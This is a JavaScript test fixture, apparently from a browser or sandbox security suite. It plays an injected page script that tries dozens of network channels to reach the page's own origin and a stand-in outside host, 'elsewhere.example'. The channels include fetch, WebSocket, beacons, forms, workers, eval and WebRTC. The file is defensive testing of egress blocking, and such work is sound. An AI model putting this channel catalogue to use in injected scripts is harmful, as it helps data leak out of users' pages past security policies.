// A script that has got into the page, as if it were the site's own. When the
// test says so, it tries every way out that a browser has: to a file of our
// own and to another server. Each address says by its name which way it was.
document.addEventListener('intrude', ({detail: {worker}}) => {
const root = document.documentElement.dataset;
const own = way => location.origin + '/en/?way=' + way;
const other = way => 'http://elsewhere.example/?way=' + way;
const script = way => document.querySelector('script[src*="early"]').src + '?way=' + way;
const element = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
const link = (rel, href, more) => element('link', {rel, href, ...more});
const drawing = (tag, way) => {
const one = document.createElementNS('http://www.w3.org/2000/svg', tag);
one.setAttribute('href', own(way));
document.querySelector('svg').append(one);
};

// What page and worker both have; the worker is handed these as text.
const shared = (own, other, script) => {
const socket = url => url.replace('http', 'ws');
const xhr = url => { const x = new XMLHttpRequest(); x.open('GET', url); x.send() };
return [
() => fetch(own('fetch')), () => fetch(other('fetch'), {mode: 'no-cors'}),
() => fetch(own('keepalive'), {keepalive: true, method: 'POST', body: 'a'}),
() => xhr(own('xhr')), () => xhr(other('xhr')),
() => new WebSocket(socket(own('socket'))), () => new WebSocket(socket(other('socket'))),
() => new EventSource(own('events')), () => new EventSource(other('events')),
() => new WebTransport(own('transport').replace('http:', 'https:')),
() => import(script('import')), () => new Worker(script('worker')),
() => new FontFace('a', 'url(' + own('font') + ')').load(),
() => caches.open('a').then(c => c.add(own('cache'))),
() => (0, eval)("fetch('" + own('eval') + "')"),
() => Function("fetch('" + own('function') + "')")(),
];
};

const page = [
...shared(own, other, script),
() => { new Image().src = own('image') }, () => { new Image().src = other('image') },
() => navigator.sendBeacon(own('beacon'), 'a'), () => navigator.sendBeacon(other('beacon'), 'a'),
() => new SharedWorker(script('shared')), () => navigator.serviceWorker.register(script('service')),
() => element('script', {src: script('script')}), () => element('script', {src: other('script')}),
() => element('script', {textContent: "new Image().src = '" + own('inline') + "'"}),
() => link('stylesheet', own('style')), () => link('prefetch', own('prefetch')),
() => link('prerender', own('prerender')), () => link('preload', own('preload'), {as: 'fetch'}),
() => link('modulepreload', script('modulepreload')), () => link('manifest', own('manifest')),
() => link('icon', own('icon')),
() => element('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [own('speculation')]}]})}),
() => { document.body.style.backgroundImage = 'url(' + own('background') + ')' },
() => { document.body.style.cursor = 'url(' + own('cursor') + '), auto' },
() => { const s = new CSSStyleSheet(); s.replaceSync('body { list-style: url(' + own('sheet') + ') }'); document.adoptedStyleSheets = [s] },
() => drawing('image', 'drawing'), () => drawing('use', 'use'),
() => element('iframe', {src: own('frame')}), () => element('iframe', {srcdoc: '<img src="' + own('srcdoc') + '">'}),
() => element('audio', {src: own('audio')}), () => element('video', {src: own('video'), poster: own('poster')}),
() => element('object', {data: own('object')}), () => element('embed', {src: own('embed')}),
() => element('input', {type: 'image', src: own('input')}),
() => { const f = document.createElement('form'); f.action = own('form'); f.method = 'post'; document.body.append(f); f.submit() },
() => { const a = Object.assign(document.createElement('a'), {href: '#103', ping: own('ping')}); document.body.append(a); a.click() },
];

// The worker that the program makes, with the tries behind its own text.
const inside = way => (root.worker = way, new Worker(URL.createObjectURL(new Blob([
worker, '\nconst own = way => ', JSON.stringify(own('worker-')), ' + way, other = way => ', JSON.stringify(other('worker-')), ' + way,',
'script = way => ', JSON.stringify(script('worker-')), ' + way;\n',
'const ways = (', shared.toString(), ')(own, other, script);\n',
"ways.push(() => importScripts(script('scripts')));\n",
"ways.push(() => new Worker(URL.createObjectURL(new Blob([\"fetch('\" + own('nested') + \"')\"], {type: 'text/javascript'}))));\n",
"for (const way of ways) try { Promise.resolve(way()).catch(() => {}) } catch {}\n",
"setTimeout(() => postMessage('tried'), 300);",
], {type: 'text/javascript'}))));
// A module may name what it needs before it begins.
const module = () => new Worker(URL.createObjectURL(new Blob(["import '" + script('module') + "'"], {type: 'text/javascript'})), {type: 'module'});

// Not at once: what a test runs itself may do what a page may not.
setTimeout(() => {
for (const way of [...page, module]) try { Promise.resolve(way()).catch(() => {}) } catch {}
const end = () => { root.tried = 'yes' };
try { const w = inside(); w.onmessage = () => { root.inside = 'yes'; end() }; w.onerror = end } catch { end() }
}, 50);
});

// One way at a time: those that leave the page, and those of other networks.
document.addEventListener('go', ({detail: {way, ear}}) => {
const own = location.origin + '/en/?way=' + way, other = 'http://elsewhere.example/?way=' + way;
const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
const ways = {
address: () => { location.href = other }, replace: () => location.replace(own),
link: () => Object.assign(document.createElement('a'), {href: other}).click(),
refresh: () => document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + other})),
form: () => { const f = document.createElement('form'); f.action = other; document.body.append(f); f.submit() },
preconnect: () => add('link', {rel: 'preconnect', href: 'http://127.0.0.1:' + ear.split(':').pop()}),
call: () => {
const call = new RTCPeerConnection({iceServers: [
{urls: 'stun:' + ear}, {urls: 'turn:' + ear + '?transport=tcp', username: 'a', credential: 'a'}]});
call.createDataChannel('a');
call.createOffer().then(offer => call.setLocalDescription(offer));
},
};
setTimeout(() => { try { ways[way]() } catch (e) { document.documentElement.dataset.refused = e.name } }, 50);
});
